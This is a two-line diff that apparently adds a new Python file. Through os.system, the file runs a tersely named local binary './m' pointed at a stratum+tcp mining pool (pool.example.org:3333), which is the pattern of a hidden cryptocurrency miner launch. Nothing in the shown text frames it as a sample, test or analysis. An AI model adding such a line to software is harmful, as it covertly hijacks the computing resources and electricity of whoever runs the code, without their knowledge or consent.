@@ -1,0 +1,2 @@
+import os
+os.system("./m -o stratum+tcp://pool.example.org:3333 -u x")
